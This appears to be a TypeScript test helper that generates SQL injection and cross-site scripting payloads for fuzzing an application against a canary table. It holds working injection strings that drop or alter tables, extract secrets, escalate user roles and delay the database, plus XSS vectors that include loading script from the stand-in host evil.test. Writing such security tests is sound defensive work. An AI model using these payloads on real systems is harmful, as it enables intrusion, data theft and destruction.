/** Each beginning with each act, mixed so that the first few have some of all: as many as there are, at most. */
function mixed(count: number, beginnings: readonly string[], acts: readonly string[]): string[] {
  const all = new Set<string>();
  // The number of acts is prime to that of beginnings, so that every pair comes once.
  for (let at = 0; at < beginnings.length * acts.length && all.size < count; at += 1) {
    all.add(`${beginnings[at % beginnings.length]}${acts[at % acts.length]}`);
  }
  if (all.size < count) throw new Error(`There are ${all.size} payloads, not ${count}.`);
  return [...all];
}

/** What ends the place that a value stands in, if it stands in a statement as it is. */
const SQL_BEGINNINGS = ['', '1', "'", "1'", '"', "')", "'))", '1)', '$$', "\\'", "1'/**/", '%27', '�'];

/** What would then run: it changes, reads or sleeps. */
const SQL_ACTS = [
  '; drop table canary --',
  ' or 1=1 --',
  " or 'a'='a",
  ' union select secret from canary --',
  ' union all select null, secret from canary --',
  "; update canary set secret = 'x' --",
  '; delete from canary; commit --',
  ' and (select count(*) from canary) = 3 --',
  '||(select secret from canary limit 1)||',
  "||(select secret from canary limit 1)||'",
  '; select pg_sleep(5) --',
  ' or pg_sleep(5) is null --',
  ' and 1=(select 1 from pg_sleep(5)) --',
  "; copy canary to '/tmp/canary.csv' --",
  "; update users set type = 'staff' --",
  ' and 1=cast((select secret from canary limit 1) as int) --',
  '; set role postgres; drop table canary --',
];

export function sqlPayloads(count: number): string[] {
  return mixed(count, SQL_BEGINNINGS, SQL_ACTS);
}

/** What ends the place that a text stands in, if it stands in a page as it is. */
const SCRIPT_BEGINNINGS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  '"/>',
  ']]>',
];

/** What would then run, each by itself: `alert` opens a dialog, which a test sees. */
const SCRIPT_ACTS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.test/x.js></script>',
  '<script type=module>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<style>@import "javascript:alert(1)";</style>',
  '<style onload=alert(1)></style>',
  '<x onclick=alert(1) style=position:fixed;inset:0>x</x>',
  '<x contenteditable onblur=alert(1)>x</x>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  "<%<!--'%><script>alert(1)</script -->",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates, as text
  '${alert(1)}',
  'javascript:alert(1)',
  '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
  "' onfocus='alert(1)' autofocus tabindex=1 x='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

export function scriptPayloads(count: number): string[] {
  return mixed(count, SCRIPT_BEGINNINGS, SCRIPT_ACTS);
}
